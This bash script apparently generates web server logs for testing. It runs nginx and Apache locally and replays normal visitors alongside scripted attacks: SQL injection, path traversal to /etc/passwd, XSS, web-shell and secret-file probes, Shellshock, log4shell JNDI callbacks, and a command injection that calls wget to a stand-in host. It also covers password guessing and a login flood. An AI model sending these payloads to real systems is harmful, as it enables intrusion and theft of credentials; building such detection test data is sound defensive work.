# shellcheck shell=bash
# web.sh - nginx on port 80 and Apache on port 8080, browsed and attacked
#
# Sourced by capture_logs.sh. Addresses:
#   198.51.100.40-.47     visitors; carol (.22) and dave (.45) log in
#   203.0.113.40          sqlmap: SQL injection        203.0.113.41  nikto: probes of all kinds
#   203.0.113.42          path traversal, XSS          203.0.113.43  secrets, web shells, log4shell
#   203.0.113.44          guesses basic-auth passwords 203.0.113.45  broken requests
#   203.0.113.46          floods the login form

readonly site=www.example.com
readonly export_count=40
readonly guess_count=60

readonly webkit='AppleWebKit/605.1.15 (KHTML, like Gecko)'
readonly agents=(
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0'
  "Mozilla/5.0 (X11; Linux x86_64) $webkit Chrome/130.0.0.0 Safari/537.36"
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) $webkit Version/17.5 Safari/604.1"
  'Mozilla/5.0 (compatible; ExampleBot/2.1; +https://search.example/bot.html)'
)

start_nginx() {
  make_site
  cat >/etc/nginx/nginx.conf <<'END'
user www-data;
worker_processes 2;
pid /run/nginx.pid;
error_log /run/capture/nginx_error.log warn;
events { worker_connections 256; }
http {
  include /etc/nginx/mime.types;
  access_log /run/capture/nginx_access.log combined;
  error_log /run/capture/nginx_error.log info;
  keepalive_timeout 0;
  limit_req_zone $binary_remote_addr zone=login:1m rate=2r/s;
  server {
    listen 80 default_server;
    listen [::]:80 default_server;
    server_name www.example.com;
    root /var/www/site;
    client_max_body_size 16k;
    client_header_timeout 2s;
    location /members/ { auth_basic "Members"; auth_basic_user_file /etc/nginx/members; }
    location /export/ { auth_basic "Export"; auth_basic_user_file /etc/nginx/members; }
    location = /login { limit_req zone=login burst=5 nodelay; error_page 405 = @home; }
    location @home { return 303 /; }
    location = /upload { proxy_pass http://127.0.0.1:9001; }
    location /app/ { proxy_pass http://127.0.0.1:9000; }
    location /internal/ { deny all; }
    location /old/ { return 301 /; }
  }
}
END
  start_service nginx nginx -g 'daemon off;'
  until_port 80
}

# The site both servers show, and its members.
make_site() {
  local page name
  mkdir -p /var/www/site/{members,export,internal,images,empty} /etc/nginx
  for page in index contact products/1 products/2 news/2026/spring members/index; do
    mkdir -p "/var/www/site/$(dirname $page)"
    printf '<!doctype html><title>%s</title><p>%s</p>\n' $page "$(seq -s ' ' 200)" \
      >/var/www/site/$page.html
  done
  printf 'body { margin: 2em }\n' >/var/www/site/style.css
  head -c 4000 /dev/zero >/var/www/site/images/logo.png
  printf 'User-agent: *\nDisallow: /members/\n' >/var/www/site/robots.txt
  printf 'nothing\n' | tee /var/www/site/internal/notes.txt >/var/www/site/login
  truncate -s 8M /var/www/site/export/recipients.csv
  for name in carol dave; do
    passwords[web_$name]=$(openssl rand -hex 12)
    printf '%s:%s\n' $name "$(openssl passwd -apr1 -stdin <<<"${passwords[web_$name]}")"
  done >/etc/nginx/members
  chown root:www-data /etc/nginx/members && chmod 640 /etc/nginx/members
}

start_apache() {
  local module
  {
    for module in mpm_event authn_core authn_file authz_core authz_user authz_host auth_basic \
      alias autoindex dir mime proxy proxy_http reqtimeout; do
      echo "LoadModule ${module}_module /usr/lib/apache2/modules/mod_$module.so"
    done
    cat <<'END'
ServerRoot /etc/apache2
ServerName www.example.com
PidFile /run/apache2.pid
Listen 8080
User www-data
Group www-data
Timeout 5
LogLevel warn core:info
ErrorLog /run/capture/apache_error.log
LogFormat "%h %l %u %t \"%r\" %>s %O \"%{Referer}i\" \"%{User-Agent}i\"" combined
CustomLog /run/capture/apache_access.log combined
DocumentRoot /var/www/site
TypesConfig /etc/mime.types
RequestReadTimeout header=2,MinRate=500
<Directory /var/www/site>
  Options -Indexes
  Require all granted
</Directory>
<LocationMatch "^/(members|export)/">
  AuthType Basic
  AuthName Members
  AuthUserFile /etc/nginx/members
  Require valid-user
</LocationMatch>
<Location /internal/>
  Require all denied
</Location>
ProxyPass /app/ http://127.0.0.1:9000/
END
  } >/etc/apache2/capture.conf
  start_service apache apache2 -DFOREGROUND -f /etc/apache2/capture.conf
  until_port 8080
}

# get FROM AGENT PATH OPTIONS...: one request, to the port named by `web_port`.
get() {
  local from=$1 agent=$2 path=$3 host=$server
  shift 3
  if [[ $from == *:* ]]; then host=[$server6]; fi
  outside curl -gs -o /dev/null --max-time 10 --path-as-is --interface "$from" -A "$agent" \
    -H "Host: $site" "$@" "http://$host:$web_port$path" || true
}

# raw FROM BYTES [SECONDS]: writes bytes to the port, keeping it open so many seconds.
raw() {
  { printf '%b' "$2"; sleep "${3-0.2}"; } |
    outside timeout 10 nc -q 0 -s "$1" $server "$web_port" >/dev/null 2>&1 || true
}

web_scenario() {
  say "web: nginx"
  start_nginx
  web_port=80
  (browse 12; log_in; scan_all 10; guess_basic $guess_count; flood; broken_requests)
  (bulk_export $export_count; browse 8)
  stop_service nginx
  say "web: Apache"
  start_apache
  web_port=8080
  (browse 2; log_in; scan_all 2; guess_basic 12; broken_requests; bulk_export 4)
  stop_service apache
}

# browse ROUNDS: visitors with their own habits. Every fourth is a robot.
browse() {
  local round visitor agent from base=https://$site
  for round in $(seq "$1"); do
    visitor=$((round % 4))
    agent=${agents[visitor]}
    from=198.51.100.4$visitor
    if ((visitor == 3)); then
      get $from "$agent" /robots.txt
      get $from "$agent" /products/1.html
    else
      get $from "$agent" / -e 'https://search.example/?q=newsletter'
      get $from "$agent" /style.css -e $base/
      get $from "$agent" /images/logo.png -e $base/
      get $from "$agent" "/products/$((round % 2 + 1)).html?ref=home" -e $base/
      get $from "$agent" /favicon.ico -e $base/
      get $from "$agent" /contact.html -I
    fi
    get $from "$agent" /news/2026/spring.html -e $base/
    get $from "$agent" /news/2019/gone.html
    sleep 1
  done
  get 2001:db8:0:2::20 "${agents[0]}" /
  get 198.51.100.46 'Mozilla/5.0 "quoted" \ backslash' '/search?q=gr%C3%BC%C3%9Fe&lang=de'
  get 198.51.100.46 '' /old/page
}

# carol and dave read the members' pages; dave mistypes once. The application is down.
log_in() {
  local path
  for path in /members/ /members/index.html; do
    get 198.51.100.22 "${agents[0]}" $path
    get 198.51.100.22 "${agents[0]}" $path -u "carol:${passwords[web_carol]}"
    get 198.51.100.45 "${agents[1]}" $path -u "dave:${passwords[web_dave]}"
  done
  get 198.51.100.45 "${agents[1]}" /members/ -u "dave:$(openssl rand -hex 4)"
  get 198.51.100.45 "${agents[1]}" /app/status
  get 198.51.100.45 "${agents[1]}" /app/send -d 'subject=hello'
  get 198.51.100.45 "${agents[1]}" /empty/
  get 198.51.100.45 "${agents[1]}" /internal/notes.txt
  head -c 40000 /dev/zero | get 198.51.100.45 "${agents[1]}" /upload --data-binary @- -H Expect:
}

# scan_all ROUNDS
scan_all() {
  local round path
  for round in $(seq "$1"); do
    for path in "/products/1.html?id=$round%27%20OR%20%271%27%3D%271" \
      "/products/1.html?id=$round+UNION+SELECT+user,password+FROM+users--" \
      "/products/1.html?id=$round;WAITFOR+DELAY+'0:0:5'--" \
      "/products/1.html?id=$round%20AND%20SLEEP(5)"; do
      get 203.0.113.40 'sqlmap/1.8.4#stable (https://sqlmap.org)' "$path"
    done
  done
  scan_nikto
  scan_traversal
  scan_secrets
}

scan_nikto() {
  local path
  for path in /admin/ /phpmyadmin/ /cgi-bin/test.cgi /server-status /manager/html /backup.zip \
    /test.php /phpinfo.php /.htaccess /.DS_Store /wp-login.php /xmlrpc.php /console; do
    get 203.0.113.41 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)' $path
  done
  get 203.0.113.41 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000002)' / -X TRACE
  get 203.0.113.41 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)' / -X PROPFIND
  get 203.0.113.41 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000004)' /x.txt -X PUT -d x
}

scan_traversal() {
  local path
  for path in /../../../../etc/passwd /images/../../../../../etc/shadow \
    /images/..%2f..%2f..%2f..%2fetc%2fpasswd /%2e%2e/%2e%2e/%2e%2e/etc/passwd \
    /images/..%252f..%252f..%252fetc%252fpasswd '/download?file=../../../../etc/passwd' \
    '/download?file=....//....//etc/passwd%00.png' /images/..%c0%af..%c0%afetc/passwd \
    '/view?page=/proc/self/environ' '/search?q=%3Cscript%3Ealert(1)%3C/script%3E' \
    '/search?q=<script>document.location="http://203.0.113.42/"</script>' \
    '/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E' '/?x=javascript:alert(1)'; do
    get 203.0.113.42 'python-requests/2.32.3' "$path"
  done
}

scan_secrets() {
  # shellcheck disable=SC2016
  local path jndi='${jndi:ldap://203.0.113.43:1389/a}'
  for path in /.env /.env.bak /.git/config /.git/HEAD /.aws/credentials /config.php.bak /id_rsa \
    /.ssh/id_ed25519 /wp-config.php~ /dump.sql; do
    get 203.0.113.43 'curl/7.88.1' $path
  done
  for path in '/shell.php?cmd=id' '/uploads/c99.php' '/images/r57.php?cmd=cat+/etc/passwd' \
    '/cmd.jsp?cmd=whoami' '/wso.php'; do
    get 203.0.113.43 'Wget/1.21.3' "$path"
  done
  get 203.0.113.43 'Wget/1.21.3' /cgi-bin/bash -H 'Referer: () { :; }; /bin/cat /etc/passwd'
  get 203.0.113.43 "$jndi" / -e "$jndi"
  get 203.0.113.43 'Go-http-client/1.1' "/?x=%24%7Bjndi%3Aldap%3A//203.0.113.43/b%7D"
  # shellcheck disable=SC2016
  get 203.0.113.43 'python-urllib3/2.2.2' '/cgi-bin/luci/;stok=/locale?form=country' \
    -d 'operation=write&country=$(id>`wget http://203.0.113.43/x`)'
}

# guess_basic COUNT: half for carol, the rest for names that may not exist. One attempt, no name.
guess_basic() {
  local count names=(carol admin carol root carol dave carol test)
  get 203.0.113.44 'Mozilla/4.0 (Hydra)' /members/
  for count in $(seq "$1"); do
    get 203.0.113.44 'Mozilla/4.0 (Hydra)' /members/ \
      -u "${names[count % 8]}:$(openssl rand -hex 4)"
  done
}

# More than the login form's limit of two a second.
flood() {
  local count
  for count in $(seq 25); do get 203.0.113.46 'okhttp/4.12.0' /login -d "try=$count" & done
  wait
}

broken_requests() {
  local long
  long=$(head -c 9000 /dev/zero | tr '\0' A)
  raw 203.0.113.45 'GET /\r\n\r\n'
  raw 203.0.113.45 'HELLO\r\n\r\n'
  raw 203.0.113.45 'GET / HTTP/1.1\r\n\r\n'
  raw 203.0.113.45 'GET /\x01\x02\xff\xfe HTTP/1.1\r\nHost: www.example.com\r\n\r\n'
  raw 203.0.113.45 'GET / HTTP/1.1\r\nHost: a b\r\nX: "\x07\r\n\r\n'
  raw 203.0.113.45 '\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n'
  raw 203.0.113.45 'SSH-2.0-Go\r\n'
  raw 203.0.113.45 "GET /$long HTTP/1.1\r\nHost: www.example.com\r\n\r\n"
  raw 203.0.113.45 'CONNECT mail.example.net:25 HTTP/1.1\r\nHost: mail.example.net:25\r\n\r\n'
  raw 203.0.113.45 'GET http://proxy.example.net/ HTTP/1.1\r\nHost: proxy.example.net\r\n\r\n'
  # TLS where HTTP is spoken; a request that never ends; nothing at all.
  outside curl -ks --max-time 5 --interface 203.0.113.45 https://$server:"$web_port"/ || true
  raw 203.0.113.45 'GET / HTTP/1.1\r\nHost: ' 4
  raw 203.0.113.45 ''
}

# bulk_export COUNT: dave's account, from an address of its own, fetches the list again and again.
bulk_export() {
  local count
  for count in $(seq "$1"); do
    get 198.51.100.47 'python-requests/2.32.3' "/export/recipients.csv?part=$count" \
      -u "dave:${passwords[web_dave]}"
    sleep 0.2
  done
}
